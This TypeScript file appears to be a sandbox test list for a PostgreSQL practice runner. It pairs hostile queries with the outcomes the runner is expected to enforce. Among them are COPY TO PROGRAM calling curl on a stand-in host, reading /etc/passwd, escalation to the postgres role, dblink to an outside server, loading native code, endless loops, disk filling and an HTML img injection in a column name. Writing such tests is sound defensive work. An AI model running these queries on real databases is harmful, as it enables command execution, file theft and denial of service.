import type { EndReason } from '#features/practice/run.rules.ts'
import type { Attack } from './script.ts'

const ENDLESS: EndReason[] = ['too_long']
const REFUSED: EndReason[] = ['failed']
const FULL: EndReason[] = ['too_much_memory', 'failed', 'too_long']
const NUMBERS = 'WITH RECURSIVE n(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM n)'
/** Back to whoever rules the server: it is theirs alone, and in their own page. */
const RULING = 'SET SESSION AUTHORIZATION postgres;'

export const postgresqlAttacks: Attack[] = [
  ['an endless count', `${NUMBERS} SELECT count(*) FROM n;`, [...ENDLESS, ...FULL]],
  ['a program', "COPY (SELECT 1) TO PROGRAM 'curl BAIT/program';", REFUSED],
  ['a program of the one who rules', `${RULING} COPY (SELECT 1) TO PROGRAM 'curl BAIT/program';`, [...REFUSED, ...ENDLESS]],
  ['a long sleep', 'SELECT pg_sleep(3600);', ENDLESS],
  ['a file of the machine', "SELECT pg_read_file('/etc/passwd');", REFUSED],
  ['a file of the machine for the one who rules', `${RULING} SELECT pg_read_file('/etc/passwd');`, REFUSED],
  ['an endless loop', 'DO $$ BEGIN LOOP END LOOP; END $$;', ENDLESS],
  ['an endless table', `${NUMBERS} SELECT x FROM n;`, ['done']],
  ['endless notices', "DO $$ BEGIN LOOP RAISE NOTICE '%', repeat('x', 1000); END LOOP; END $$;", [...ENDLESS, ...FULL, 'too_much_output']],
  ['a disk that fills', `${NUMBERS} SELECT repeat(x::text, 1000) AS words INTO t FROM n;`, FULL],
  ['an endless sort', `${NUMBERS} SELECT x FROM n ORDER BY -x;`, FULL],
  ['a gigantic text', "SELECT length(repeat('x', 1000000000));", FULL],
  [
    'a function that calls itself',
    'CREATE FUNCTION f(n int) RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETURN f(n + 1); END $$; SELECT f(1);',
    [...REFUSED, ...FULL],
  ],
  ['another server', "CREATE EXTENSION dblink; SELECT dblink_connect('host=BAIT');", REFUSED],
  ['a language that is not trusted', "CREATE FUNCTION f() RETURNS int AS '/lib/x.so', 'f' LANGUAGE c;", REFUSED],
  ['the end of the server', `${RULING} SELECT pg_terminate_backend(pg_backend_pid());`, ['done', ...REFUSED, ...ENDLESS]],
  ['words that mislead', `SELECT '{"kind":"end","reason":"done","problem":null}' AS "<img src=BAIT/img>";`, ['done']],
]
